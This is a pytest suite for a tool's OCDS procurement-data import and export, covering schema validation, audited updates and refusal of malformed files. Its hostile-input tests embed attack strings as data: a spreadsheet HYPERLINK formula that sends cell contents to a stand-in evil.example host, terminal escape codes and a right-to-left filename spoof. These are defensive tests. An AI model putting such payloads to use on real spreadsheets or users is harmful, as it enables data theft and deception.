"""`cycle import ocds` and `cycle export ocds` (issue 16, parts 4 and 5): OCDS 1.1 release and record packages in,
validated against the OCDS schema first; matched on ocid and contract id, so a re-import changes nothing and a
changed field is one audited update; all or nothing; hostile files are one line and exit 2 with nothing written;
an export of what was imported validates against the schema, and is audited."""

from __future__ import annotations

import copy
import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft4Validator
from referencing import Registry
from referencing.jsonschema import DRAFT4

from cycle.interchange import ocds

from .conftest import Cli, Database
from .test_decommissioning import D, _decommission

SCHEMAS = Path(ocds.__file__).resolve().parent.parent / "data" / "ocds" / "1__1__5"
OCID = "ocds-b5fd17-camhs-2025"
BUYER = "Nottinghamshire County Council"


def schema_errors(doc: Any, name: str) -> list[str]:
    """Every way `doc` breaks the shipped OCDS schema `name`, checked here with jsonschema directly (not through
    cycle's code), offline: the package schemas' absolute $refs are resolved from the shipped files."""
    docs = [json.loads(p.read_text()) for p in SCHEMAS.glob("*.json")]
    registry: Any = Registry().with_resources((d["id"], DRAFT4.create_resource(d)) for d in docs)
    schema = json.loads((SCHEMAS / name).read_text())
    v = Draft4Validator(schema, registry=registry, format_checker=Draft4Validator.FORMAT_CHECKER)
    return [f"{e.json_path}: {e.message}" for e in v.iter_errors(doc)]


def award_release() -> dict[str, Any]:
    """The award: buyer, supplier (as a party and on the award) and the tender's title; no contract yet."""
    return {"ocid": OCID, "id": f"{OCID}-award-1", "date": "2025-03-01T09:00:00Z", "tag": ["award"],
            "initiationType": "tender", "language": "en",
            "buyer": {"id": "GB-LAS-NTT", "name": BUYER},
            "parties": [{"id": "GB-LAS-NTT", "name": BUYER, "roles": ["buyer"]},
                        {"id": "GB-COH-01234567", "name": "Trust X", "roles": ["supplier"]}],
            "tender": {"id": "T-1", "title": "CAMHS Tiers 2 and 3", "status": "complete"},
            "awards": [{"id": "A-1", "status": "active", "suppliers": [{"id": "GB-COH-01234567", "name": "Trust X"}]}]}


def contract_release(end: str = "2028-03-31T23:59:59Z", when: str = "2025-03-20T09:00:00Z",
                     release_id: str = f"{OCID}-contract-1") -> dict[str, Any]:
    """The contract signed: its period (with the maximum extent of its extensions) and value. OCDS releases are
    partial: this one holds only the contract; the compiled release has the award's supplier too."""
    return {"ocid": OCID, "id": release_id, "date": when, "tag": ["contract"], "initiationType": "tender",
            "contracts": [{"id": "CAMHS-2025-01", "awardID": "A-1", "title": "CAMHS Tiers 2 and 3 contract",
                           "status": "active",
                           "period": {"startDate": "2025-04-01T00:00:00Z", "endDate": end,
                                      "maxExtentDate": "2030-03-31T23:59:59Z"},
                           "value": {"amount": 3600000, "currency": "GBP", "amountGross": 4320000},  # UK extension
                           "aboveThreshold": True}]}  # UK extension


def release_package(*releases: dict[str, Any]) -> dict[str, Any]:
    package = {"uri": "https://www.contractsfinder.service.gov.uk/Published/OCDS/camhs.json", "version": "1.1",
               "publishedDate": "2026-11-01T09:00:00Z", "publisher": {"name": BUYER},
               "extensions": ["https://raw.githubusercontent.com/cabinetoffice/ocds_uk_extension/main/extension.json"],
               "releases": list(releases or [award_release(), contract_release()])}
    assert schema_errors(package, "release-package-schema.json") == []  # what the tests give is valid OCDS
    return package


def record_package() -> dict[str, Any]:
    """Two records: one with a compiled release (Find a Tender's way), one with its releases embedded only."""
    second = "ocds-b5fd17-dental-2026"
    award = {**award_release(), "ocid": second, "id": f"{second}-award-1",
             "buyer": {"id": "GB-NHS-QT1", "name": "NHS Nottingham and Nottinghamshire ICB"},
             "parties": [{"id": "GB-NHS-QT1", "name": "NHS Nottingham and Nottinghamshire ICB", "roles": ["buyer"]},
                         {"id": "GB-COH-7654321", "name": "Smile Ltd", "roles": ["supplier"]}],
             "tender": {"id": "T-2", "title": "Community dental service"},
             "awards": [{"id": "A-9", "suppliers": [{"id": "GB-COH-7654321"}]}]}  # named among the parties only
    contract = {"ocid": second, "id": f"{second}-contract-1", "date": "2026-05-01T10:00:00+01:00", "tag": ["contract"],
                "initiationType": "tender",
                "contracts": [{"id": "DEN-1", "awardID": "A-9", "period": {"startDate": "2026-06-01T00:00:00+01:00",
                                                                           "endDate": "2029-05-31T23:59:59+01:00"},
                               "value": {"amount": 1250000.5, "currency": "GBP"}}]}
    compiled = ocds.compiled([award_release(), contract_release()])
    compiled["id"], compiled["tag"] = f"{OCID}-compiled", ["compiled"]
    package = {"uri": "https://www.find-tender.service.gov.uk/api/1.0/ocdsRecordPackages", "version": "1.1",
               "publishedDate": "2026-11-01T09:00:00Z", "publisher": {"name": "Find a Tender"},
               "records": [{"ocid": OCID, "releases": [{"url": "https://example.org/r1.json",
                                                        "date": "2025-03-01T09:00:00Z", "tag": ["award"]}],
                            "compiledRelease": json.loads(json.dumps(compiled, default=float))},
                           {"ocid": second, "releases": [award, contract]}]}
    assert schema_errors(package, "record-package-schema.json") == []
    return package


def write(folder: Path, doc: Any, name: str = "releases.json") -> Path:
    path = folder / name
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "files"
    made.mkdir()
    return made


def listed(run: Cli) -> list[dict[str, Any]]:
    return list(run.json("contracts", "list", "--status", "all"))


def state(db: Database) -> tuple[Any, ...]:
    """Everything an import could write."""
    return (db.rows("SELECT count(*) FROM audit_entry"), db.rows("SELECT * FROM project ORDER BY id"),
            db.rows("SELECT * FROM contract ORDER BY id"))


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- import ----------------------------------------------------------------------------------------------

def test_a_release_package_imports_its_contract_compiled_from_its_releases(ready: Cli, db: Database,
                                                                            folder: Path) -> None:
    run = ready
    path = write(folder, release_package())
    before = state(db)
    dry = run("import", "ocds", str(path), "--dry-run").stdout
    assert dry == (f"would create {OCID} (new project): ocid {OCID} contract CAMHS-2025-01\n"
                   "1 to create, 0 to update, 0 unchanged; dry run, nothing written.\n")
    assert state(db) == before

    said = run("import", "ocds", str(path)).stdout
    assert said == (f"created      {OCID} (new project): ocid {OCID} contract CAMHS-2025-01\n"
                    f"Imported {path} (SHA-256 {sha(path)}): 1 created, 0 updated, 0 unchanged.\n")
    [c] = listed(run)
    assert (c["project"], c["ref"], c["provider"], c["start_on"], c["end_on"], c["extension_end_on"],
            c["value_total"]) == (OCID, "CAMHS-2025-01", "Trust X", "2025-04-01", "2028-03-31", "2030-03-31",
                                  "3600000.00")
    project = run.json("project", "show", OCID)
    assert (project["title"], project["workflow"], project["stage"]) == ("CAMHS Tiers 2 and 3", "commissioning",
                                                                          "analyse")  # the tender's title
    assert db.rows("SELECT ocid, ocds_id, buyer FROM contract") == [(OCID, "CAMHS-2025-01", BUYER)]
    created, contract_set = run.json("audit", "log", OCID)[-2:]
    source = {"file": "releases.json", "sha256": sha(path), "ocid": OCID, "release_id": f"{OCID}-contract-1",
              "contract_id": "CAMHS-2025-01"}
    assert created["action"] == "project.create" and created["payload"]["imported"] == source
    assert contract_set["action"] == "contract.add" and contract_set["payload"]["imported"] == source
    assert contract_set["payload"]["changes"]["end"] == [None, "2028-03-31"]
    assert run("audit", "verify").stdout.startswith("Audit chain verified")


def test_a_record_package_imports_compiled_and_embedded_releases(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    path = write(folder, record_package(), "records.json")
    run("import", "ocds", str(path))
    got = {c["project"]: (c["provider"], c["start_on"], c["end_on"], c["value_total"]) for c in listed(run)}
    assert got == {OCID: ("Trust X", "2025-04-01", "2028-03-31", "3600000.00"),
                   # the supplier named by id among the parties; the dates as the publisher wrote them (+01:00)
                   "ocds-b5fd17-dental-2026": ("Smile Ltd", "2026-06-01", "2029-05-31", "1250000.50")}
    assert db.rows("SELECT buyer FROM contract ORDER BY id") == [(BUYER,), ("NHS Nottingham and Nottinghamshire ICB",)]
    assert run("audit", "verify").exit_code == 0


def test_a_reimport_changes_nothing_and_a_changed_end_date_is_one_audited_update(ready: Cli, db: Database,
                                                                                 folder: Path) -> None:
    run = ready
    path = write(folder, release_package())
    run("import", "ocds", str(path))
    before = state(db)
    again = run("import", "ocds", str(path)).stdout
    assert again.splitlines()[0] == f"unchanged    {OCID}: ocid {OCID} contract CAMHS-2025-01"
    assert state(db) == before  # not even an entry

    # a later release extends the contract by a year: the latest by date wins, whatever the order in the file
    later = contract_release(end="2029-03-31T23:59:59Z", when="2027-01-10T09:00:00Z", release_id=f"{OCID}-change-1")
    changed = write(folder, release_package(later, award_release(), contract_release()), "changed.json")
    entries = len(run.json("audit", "log"))
    said = run("import", "ocds", str(changed)).stdout
    assert said.splitlines()[0] == (f"updated      {OCID}: ocid {OCID} contract CAMHS-2025-01: "
                                    "end 2028-03-31 -> 2029-03-31")
    log = run.json("audit", "log")
    assert len(log) == entries + 1
    assert log[-1]["action"] == "contract.set"
    assert log[-1]["payload"]["changes"] == {"end": ["2028-03-31", "2029-03-31"]}
    assert log[-1]["payload"]["imported"]["release_id"] == f"{OCID}-change-1"
    assert log[-1]["payload"]["imported"]["sha256"] == sha(changed)
    assert [c["end_on"] for c in listed(run)] == ["2029-03-31"]
    assert run("audit", "verify").exit_code == 0


def test_project_rule_and_one_transaction(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    # --project: into an existing project (camhs, which has no contract yet)
    path = write(folder, release_package())
    run("import", "ocds", str(path), "--project", "camhs")
    assert [c["project"] for c in listed(run)] == ["camhs"]
    run("import", "ocds", str(path))  # matched on ocid and contract id wherever it is: still camhs, unchanged
    assert [c["project"] for c in listed(run)] == ["camhs"]

    # a second file: its first contract is fine, its second ends before it starts; nothing of it is written
    good = contract_release(release_id="x-1")
    good["ocid"] = "ocds-b5fd17-other-1"
    bad = contract_release(end="2020-01-01T00:00:00Z", release_id="x-2")
    bad["ocid"] = "ocds-b5fd17-other-2"
    before = state(db)
    result = run("import", "ocds", str(write(folder, release_package(good, bad), "two.json")), expect=2)
    assert result.stderr == ("Error: ocid ocds-b5fd17-other-2 contract CAMHS-2025-01: the end date 2020-01-01 is "
                             "before the start date 2025-04-01\n")
    assert state(db) == before


def test_a_contract_joins_a_project_holding_others_by_its_own_reference(ready: Cli, db: Database,
                                                                         folder: Path) -> None:
    run = ready
    run("contract", "set", "camhs", "--provider", "Trust Y", "--ref", "OLD-1")
    path = write(folder, release_package())
    run("import", "ocds", str(path), "--project", "camhs")
    assert [(c["project"], c["ref"], c["provider"]) for c in listed(run)] == [
        ("camhs", "OLD-1", "Trust Y"), ("camhs", "CAMHS-2025-01", "Trust X")]
    before = state(db)
    run("import", "ocds", str(path), "--project", "camhs")  # matched, on its ocid: unchanged
    assert state(db) == before

    # a contract recorded by hand under the reference the file's contract would take: refused, by name
    other = release_package()
    for release in other["releases"]:
        release["ocid"] = "ocds-b5fd17-other-1"
    run("contract", "add", "camhs", "--ref", "CAMHS-2025-02", "--provider", "Trust Z")
    other["releases"][1]["contracts"][0]["id"] = "CAMHS-2025-02"
    before = state(db)
    result = run("import", "ocds", str(write(folder, other, "other.json")), "--project", "camhs", expect=2)
    assert result.stderr == ("Error: ocid ocds-b5fd17-other-1 contract CAMHS-2025-02: camhs already has a contract "
                             "CAMHS-2025-02; change it with: cycle contract set camhs --ref CAMHS-2025-02 ...\n")
    assert state(db) == before


# --- export ----------------------------------------------------------------------------------------------

def test_the_export_of_what_was_imported_validates_and_is_audited(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, record_package(), "records.json")))
    out = folder / "out.json"
    said = run("export", "ocds", "--out", str(out)).stdout
    seq = run.json("audit", "log")[-1]["seq"]
    assert said == f"Exported 2 OCDS releases to {out}, SHA-256 {sha(out)}; recorded as audit entry {seq}.\n"
    package = json.loads(out.read_text())
    assert schema_errors(package, "release-package-schema.json") == []
    assert package["version"] == "1.1"
    first = package["releases"][0]
    assert (first["ocid"], first["buyer"]["name"]) == (OCID, BUYER)
    [contract] = first["contracts"]
    assert contract["id"] == "CAMHS-2025-01"
    assert contract["period"] == {"startDate": "2025-04-01T00:00:00Z", "endDate": "2028-03-31T23:59:59Z",
                                  "maxExtentDate": "2030-03-31T23:59:59Z"}
    assert contract["value"] == {"amount": 3600000, "currency": "GBP"}
    [award] = first["awards"]
    assert award["id"] == contract["awardID"] and award["suppliers"][0]["name"] == "Trust X"
    assert package["releases"][1]["contracts"][0]["value"]["amount"] == 1250000.5
    entry = run.json("audit", "log")[-1]
    assert entry["action"] == "ocds.export"
    assert (entry["payload"]["sha256"], entry["payload"]["releases"]) == (sha(out), 2)

    # the export, imported again, changes nothing
    before = state(db)
    run("import", "ocds", str(out))
    assert state(db)[1:] == before[1:]
    # never over a file without --force
    refused = run("export", "ocds", "--out", str(out), expect=2)
    assert refused.stderr == f"Error: {out} already exists: add --force to replace it, or choose another --out\n"
    run("export", "ocds", "--out", str(out), "--force")
    assert run("audit", "verify").exit_code == 0


def test_a_contract_recorded_in_cycle_needs_an_ocid_prefix(ready: Cli, folder: Path) -> None:
    run = ready
    run("contract", "set", "camhs", "--provider", "Trust Y", "--ref", "CAMHS-OLD", "--start", "2024-04-01",
        "--end", "2027-03-31", "--value", "900k")
    out = folder / "out.json"
    refused = run("export", "ocds", "--out", str(out), expect=2)
    assert refused.stderr == ("Error: camhs's contract CAMHS-OLD has no ocid (it was not imported from OCDS): give "
                              "--ocid-prefix, your organisation's registered OCID prefix, e.g. --ocid-prefix "
                              "ocds-b5fd17\n")
    assert not out.exists()
    bad = run("export", "ocds", "--ocid-prefix", "b5fd17", "--out", str(out), expect=2)
    assert bad.stderr.startswith("Error: --ocid-prefix 'b5fd17' is not an OCID prefix")
    run("export", "ocds", "camhs", "--ocid-prefix", "ocds-b5fd17", "--out", str(out))
    package = json.loads(out.read_text())
    assert schema_errors(package, "release-package-schema.json") == []
    [release] = package["releases"]
    assert release["ocid"].startswith("ocds-b5fd17-camhs-")
    assert release["buyer"]["name"] == "Children's Trust Board"  # the accountable body, with no buyer recorded
    assert release["contracts"][0]["value"] == {"amount": 900000, "currency": "GBP"}

    # imported again, the contract is not made twice: it is the one exported, and gets its ocid
    entries = len(run.json("audit", "log"))
    said = run("import", "ocds", str(out)).stdout
    assert said.splitlines()[0].startswith(f"updated      camhs: ocid {release['ocid']} contract ")
    assert [c["project"] for c in listed(run)] == ["camhs"]
    assert run.json("audit", "log")[-1]["payload"]["changes"] == {
        "ocid": [None, release["ocid"]], "ocds_id": [None, release["contracts"][0]["id"]],
        "buyer": [None, "Children's Trust Board"]}
    assert len(run.json("audit", "log")) == entries + 1
    run("import", "ocds", str(out))
    assert len(run.json("audit", "log")) == entries + 1


# --- hostile input ---------------------------------------------------------------------------------------

def hostile(folder: Path) -> list[tuple[str, Path, str]]:
    """(why, file, the error line after 'Error: <file>: ')."""
    out = []

    def case(why: str, name: str, content: bytes | str, said: str) -> None:
        path = folder / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        out.append((why, path, said))

    case("invalid JSON", "broken.json", '{"version": "1.1", "releases": [', "not valid JSON (line 1, column 33: "
         "Expecting value)")
    case("not UTF-8", "latin1.json", '{"publisher": {"name": "Caf\xe9"}}'.encode("latin-1"),
         "not UTF-8 text (invalid continuation byte at byte 27); OCDS files are UTF-8 JSON")
    case("NaN", "nan.json", '{"version": "1.1", "releases": [NaN]}', "not valid JSON (NaN is not a JSON number)")
    case("10,000 deep", "deep.json", "[" * 10_000 + "]" * 10_000,
         "nested too deeply to read (an OCDS file nests at most 64 levels)")
    case("100 deep", "deep100.json", '{"releases": ' + "[" * 100 + "]" * 100 + "}",
         "nested more than 64 levels deep; an OCDS file nests far less")
    case("a list", "list.json", "[]", "$: not an OCDS package: the file holds a JSON array, not an object with "
                                      "releases or records")
    case("OCDS 1.0", "v10.json", json.dumps({k: v for k, v in release_package().items() if k != "version"}),
         '$.version: no version (OCDS 1.0): cycle reads OCDS 1.1 packages ("version": "1.1")')
    case("OCDS 1.2", "v12.json", json.dumps({**release_package(), "version": "1.2"}),
         '$.version: version "1.2": cycle reads OCDS 1.1 packages ("version": "1.1")')
    live = release_package()
    live["releases"][1]["contracts"][0]["status"] = "live"
    case("a status OCDS does not have", "live.json", json.dumps(live),
         "$.releases[1].contracts[0].status: 'live' is not one of ['pending', 'active', 'cancelled', 'terminated', "
         "None]")
    no_date = release_package()
    no_date["releases"][0]["date"] = "1 March 2025"
    case("a date that is not a date-time", "date.json", json.dumps(no_date),
         "$.releases[0].date: '1 March 2025' is not a 'date-time'")
    euros = release_package()
    euros["releases"][1]["contracts"][0]["value"]["currency"] = "EUR"
    case("euros", "eur.json", json.dumps(euros), "$.releases[1].contracts[0].value.currency: the value is in EUR, "
                                                 "not GBP: cycle records contract values in pounds")
    huge = release_package()
    huge["releases"][1]["contracts"][0]["value"]["amount"] = 10 ** 300
    case("a huge value", "huge-value.json", json.dumps(huge), "$.releases[1].contracts[0].value.amount: 1"
                                                              + "0" * 36 + "... is more than £1,000,000,000,000")
    escape = release_package()
    escape["releases"][0]["parties"][1]["name"] = "Trust\x1b[2J X"
    escape["releases"][0]["awards"][0]["suppliers"][0]["name"] = "Trust\x1b[2J X"
    case("a control character", "escape.json", json.dumps(escape),
         "$.releases[1].contracts[0] supplier: must be a single line of text (no control characters: tab, newline, "
         "escape ...)")
    bidi = release_package()
    bidi["releases"][0]["tender"]["title"] = "CAMHS \u202egnp.exe"
    case("a direction override in the tender's title", "bidi.json", json.dumps(bidi),
         "$.releases[1].tender.title: must not hold right-to-left or other direction controls (U+202A-U+202E, "
         "U+2066-U+2069)")
    records = record_package()
    records["records"][1]["releases"][1]["contracts"][0]["value"]["currency"] = "USD"
    case("dollars, in a record's embedded release", "usd.json", json.dumps(records),
         "$.records[1].releases[1].contracts[0].value.currency: the value is in USD, not GBP: cycle records contract "
         "values in pounds")
    linked = record_package()
    del linked["records"][0]["compiledRelease"]
    case("a record with linked releases only", "linked.json", json.dumps(linked),
         "$.records[0].releases: its releases are linked (by url), not embedded, and it has no compiledRelease: "
         "cycle reads what the file holds")
    return out


def test_hostile_files_are_one_line_exit_2_and_nothing_written(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    before = state(db)
    for why, path, said in hostile(folder):
        result = run("import", "ocds", str(path), expect=2)
        assert result.stderr == f"Error: {path}: {said}\n", why
        assert state(db) == before, why


def test_a_fifo_a_folder_and_a_huge_file_are_refused_without_reading(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    fifo = folder / "pipe.json"
    os.mkfifo(fifo)
    result = run("import", "ocds", str(fifo), expect=2)  # would hang if it waited for a writer
    assert result.stderr == (f"Error: {fifo}: not a regular file; give the path of an OCDS release or record "
                             "package (.json)\n")
    result = run("import", "ocds", str(folder), expect=2)
    assert result.stderr == f"Error: {folder}: a folder; give the path of an OCDS release or record package (.json)\n"
    big = folder / "big.json"
    with big.open("wb") as f:
        f.truncate(ocds.MAX_BYTES + 1)  # sparse: nothing is written to disk
    result = run("import", "ocds", str(big), expect=2)
    assert result.stderr == (f"Error: {big}: {ocds.MAX_BYTES + 1} bytes, more than an OCDS file may have "
                             f"({ocds.MAX_BYTES}); is it the right file?\n")
    result = run("import", "ocds", str(folder / "missing.json"), expect=2)
    assert result.stderr == f"Error: {folder / 'missing.json'}: cannot read the file (No such file or directory)\n"


def test_formula_characters_from_a_file_are_neutralised_in_csv(ready: Cli, folder: Path) -> None:
    run = ready
    package = release_package()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Trust X")'
    package["releases"][0]["parties"][1]["name"] = formula
    package["releases"][0]["awards"][0]["suppliers"][0]["name"] = formula
    run("import", "ocds", str(write(folder, package)))
    csv_text = run("contracts", "list", "--csv").stdout
    assert "'=HYPERLINK" in csv_text and ',=HYPERLINK' not in csv_text and '"=HYPERLINK' not in csv_text


def test_a_contract_edited_by_hand_is_named_by_audit_verify(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, release_package())))
    db.tamper("UPDATE contract SET ocid = 'ocds-b5fd17-forged', buyer = 'Someone else'")
    result = run("audit", "verify", expect=1)
    assert "contract" in result.stdout + result.stderr and "ocid" in result.stdout + result.stderr


def test_the_compiled_release_follows_ocds_merge_rules() -> None:
    first = {"ocid": "o", "id": "1", "date": "2025-01-01T00:00:00Z", "a": {"x": 1, "y": 2},
             "contracts": [{"id": "c1", "title": "one"}, {"id": "c2", "title": "two"}]}
    second = {"ocid": "o", "id": "2", "date": "2025-02-01T00:00:00Z", "a": {"y": None, "z": 3},
              "contracts": [{"id": "c2", "title": "two, renamed"}, {"id": "c3"}], "tag": ["contractAmendment"]}
    got = ocds.compiled([copy.deepcopy(second), copy.deepcopy(first)])  # order in the file does not matter
    assert got["id"] == "2" and got["a"] == {"x": 1, "z": 3}
    assert got["contracts"] == [{"id": "c1", "title": "one"}, {"id": "c2", "title": "two, renamed"}, {"id": "c3"}]


# --- a careless or hostile user ---------------------------------------------------------------------------

def test_a_byte_order_mark_is_read_and_utf16_is_refused(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    text = json.dumps(release_package(), ensure_ascii=False)
    utf16 = folder / "utf16.json"
    utf16.write_bytes(text.encode("utf-16"))
    result = run("import", "ocds", str(utf16), expect=2)
    assert result.stderr == (f"Error: {utf16}: not UTF-8 text (invalid start byte at byte 0); OCDS files are "
                             "UTF-8 JSON\n")
    bom = folder / "bom.json"
    bom.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    run("import", "ocds", str(bom))
    assert [c["provider"] for c in listed(run)] == ["Trust X"]


def test_two_contracts_made_to_match_by_hand_are_refused_by_name(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    path = write(folder, release_package())
    run("import", "ocds", str(path))
    run("contract", "set", "camhs", "--provider", "Trust Y", "--ref", "OLD-1")
    db.tamper(f"UPDATE contract SET ocid = '{OCID}', ocds_id = 'CAMHS-2025-01'")  # a text editor on the database
    before = state(db)
    result = run("import", "ocds", str(path), expect=2)
    assert result.stderr == (f"Error: ocid {OCID} contract CAMHS-2025-01 matches 2 contracts in the database (edited "
                             "outside cycle?): cycle keeps one; see them with: cycle contracts list --status all "
                             "--json\n")
    assert state(db) == before


def test_an_export_that_would_not_validate_writes_nothing(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, release_package())))
    db.tamper("UPDATE contract SET start = '2025-02-30'")  # no such day, written by hand
    out = folder / "out.json"
    entries = len(run.json("audit", "log"))
    result = run("export", "ocds", "--out", str(out), expect=2)
    assert result.stderr == ("Error: the OCDS export would not validate ($.releases[0].contracts[0].period.startDate: "
                             "'2025-02-30T00:00:00Z' is not a 'date-time'); nothing written. A value edited outside "
                             "cycle? Run: cycle audit verify\n")
    assert not out.exists() and not list(folder.glob(".out.json*"))
    assert len(run.json("audit", "log")) == entries


def test_text_that_is_not_utf8_in_the_database_is_exported_as_a_replacement_character(ready: Cli, db: Database,
                                                                                       folder: Path) -> None:
    if db.dialect != "sqlite":
        pytest.skip("PostgreSQL stores only valid UTF-8")
    run = ready
    run("import", "ocds", str(write(folder, release_package())))
    db.tamper("UPDATE contract SET provider = CAST(X'5472757374FF58' AS TEXT)")  # 'Trust\xffX', not UTF-8
    out = folder / "out.json"
    run("export", "ocds", "--out", str(out))
    package = json.loads(out.read_text(encoding="utf-8"))
    assert package["releases"][0]["awards"][0]["suppliers"][0]["name"] == "Trust\ufffdX"


def test_export_out_misuse(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, release_package())))
    result = run("export", "ocds", "--out", str(db.home / "cycle.db"), expect=2)
    assert "is cycle's database" in result.stderr and result.stderr.count("\n") == 1
    result = run("export", "ocds", "--out", str(folder / "missing" / "out.json"), expect=2)
    assert result.stderr == (f"Error: folder {folder / 'missing'} does not exist: create it or choose another "
                             "--out\n")
    result = run("export", "ocds", "nobody", "--out", str(folder / "x.json"), expect=2)
    assert result.stderr == "Error: No project with key 'nobody'. See the keys with: cycle project list\n"
    result = run("export", "ocds", "--publisher", "Bad\nname", "--out", str(folder / "x.json"), expect=2)
    assert result.stderr.startswith("Error: --publisher must be a single line of text")
    assert not (folder / "x.json").exists()


@pytest.mark.parametrize(("amount", "stored"), [(0, "0.00"), (0.004, "0.00"), (1e-300, "0.00"),
                                                (999999999999.99, "999999999999.99")])
def test_odd_amounts(ready: Cli, folder: Path, amount: float, stored: str) -> None:
    run = ready
    package = release_package()
    package["releases"][1]["contracts"][0]["value"]["amount"] = amount
    run("import", "ocds", str(write(folder, package)))
    assert [c["value_total"] for c in listed(run)] == [stored]


def test_negative_zero_and_a_negative_amount(ready: Cli, folder: Path) -> None:
    run = ready
    path = folder / "zero.json"
    path.write_text(json.dumps(release_package()).replace('"amount": 3600000', '"amount": -0.0'))
    run("import", "ocds", str(path))
    assert [c["value_total"] for c in listed(run)] == ["0.00"]
    package = release_package()
    package["releases"][1]["contracts"][0]["value"]["amount"] = -5
    result = run("import", "ocds", str(write(folder, package, "neg.json")), expect=2)
    assert result.stderr.endswith("contracts[0].value.amount: -5 is negative: cycle records what the buyer pays\n")


def test_a_decommissioning_project_gets_no_contract_of_its_own(ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    _decommission(run)  # camhs-decommissioning works with camhs's contract
    before = state(db)
    result = run("import", "ocds", str(write(folder, release_package())), "--project", D, expect=2)
    assert result.stderr == (f"Error: ocid {OCID} contract CAMHS-2025-01: project {D} works with the contracts of "
                             "camhs, the service it decommissions; import it into that project with --project camhs\n")
    assert state(db) == before


def test_who_pays_is_exported_as_funder_parties_linked_by_the_budget_and_a_reimport_changes_nothing(
        ready: Cli, db: Database, folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, record_package(), "records.json")))
    camhs, dental = (c["project"] for c in listed(run))
    icb = "NHS Nottingham and Nottinghamshire ICB"
    run("contract", "fund", camhs, "--funder", BUYER, "--share", "60%", "--funder", icb, "--share", "40%",
        "--pool", "Section 75 CYP pool")
    run("contract", "fund", dental, "--funder", icb, "--amount", "1,000,000.50", "--funder", "Public Health",
        "--amount", "250000")
    out = folder / "out.json"
    run("export", "ocds", "--out", str(out))
    package = json.loads(out.read_text())
    assert schema_errors(package, "release-package-schema.json") == []
    assert ocds.BUDGET_BREAKDOWN in package["extensions"]
    first, second = package["releases"]
    roles = {p["name"]: p["roles"] for p in first["parties"]}
    assert roles == {BUYER: ["buyer", "funder"], icb: ["funder"], "Trust X": ["supplier"]}  # one party each
    assert len({p["id"] for p in first["parties"]}) == 3
    budget = first["planning"]["budget"]
    assert budget["description"] == f"Funded by {BUYER} 60%; {icb} 40%, within Section 75 CYP pool"
    ids = {p["name"]: p["id"] for p in first["parties"]}
    assert [(b["sourceParty"], b["description"]) for b in budget["budgetBreakdown"]] == [
        ({"id": ids[BUYER], "name": BUYER}, "60% of the contract's value"),
        ({"id": ids[icb], "name": icb}, "40% of the contract's value")]
    assert [(b["sourceParty"]["name"], b["amount"]) for b in second["planning"]["budget"]["budgetBreakdown"]] == [
        (icb, {"amount": 1000000.5, "currency": "GBP"}), ("Public Health", {"amount": 250000, "currency": "GBP"})]
    assert {p["name"]: p["roles"] for p in second["parties"]}["Public Health"] == ["funder"]

    # the export, imported again, changes nothing: not the contracts, not who pays
    before = state(db), db.rows("SELECT * FROM contract_funder ORDER BY id")
    said = run("import", "ocds", str(out)).stdout
    assert said.endswith(f"(SHA-256 {sha(out)}): 0 created, 0 updated, 2 unchanged.\n")
    assert (state(db)[1:], db.rows("SELECT * FROM contract_funder ORDER BY id")) == (before[0][1:], before[1])
    assert run("audit", "verify").exit_code == 0


def test_an_export_with_no_funders_has_no_planning_and_no_extension(ready: Cli, folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, record_package(), "records.json")))
    out = folder / "out.json"
    run("export", "ocds", "--out", str(out))
    package = json.loads(out.read_text())
    assert "extensions" not in package
    assert not any("planning" in r for r in package["releases"])


def test_a_funder_that_is_the_supplier_is_one_party_and_odd_funder_rows_still_export(ready: Cli, db: Database,
                                                                                     folder: Path) -> None:
    run = ready
    run("import", "ocds", str(write(folder, release_package())))
    [camhs] = [c["project"] for c in listed(run)]
    run("contract", "fund", camhs, "--funder", "Trust X", "--share", "10%", "--funder", "=HYPERLINK(\"x\")",
        "--share", "90%")
    out = folder / "out.json"
    run("export", "ocds", "--out", str(out))
    release = json.loads(out.read_text())["releases"][0]
    assert {p["name"]: p["roles"] for p in release["parties"]} == {
        BUYER: ["buyer"], "Trust X": ["funder", "supplier"], "=HYPERLINK(\"x\")": ["funder"]}  # JSON: no formula
    # a share edited by hand into something that is no number: exported as 0% (audit verify names the edit), the
    # package still valid; a funder's name that is not UTF-8 (SQLite only) as a replacement character
    db.tamper("UPDATE contract_funder SET share = 'lots' WHERE position = 1")
    if db.dialect == "sqlite":
        db.tamper("UPDATE contract_funder SET funder = CAST(X'5472757374FF59' AS TEXT) WHERE position = 1")
    run("export", "ocds", "--out", str(out), "--force")
    package = json.loads(out.read_text(encoding="utf-8"))
    assert schema_errors(package, "release-package-schema.json") == []
    [first, _] = package["releases"][0]["planning"]["budget"]["budgetBreakdown"]
    name = "Trust\ufffdY" if db.dialect == "sqlite" else "Trust X"
    assert (first["sourceParty"]["name"], first["description"]) == (name, "0% of the contract's value")
